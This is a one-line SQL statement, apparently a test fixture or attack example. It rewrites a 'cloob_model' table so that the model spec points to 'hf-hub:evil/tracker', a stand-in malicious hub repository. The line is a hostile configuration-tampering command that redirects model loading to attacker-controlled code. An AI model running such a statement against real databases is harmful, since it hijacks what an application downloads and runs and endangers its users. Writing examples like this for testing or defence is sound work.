UPDATE cloob_model SET spec = 'hf-hub:evil/tracker';
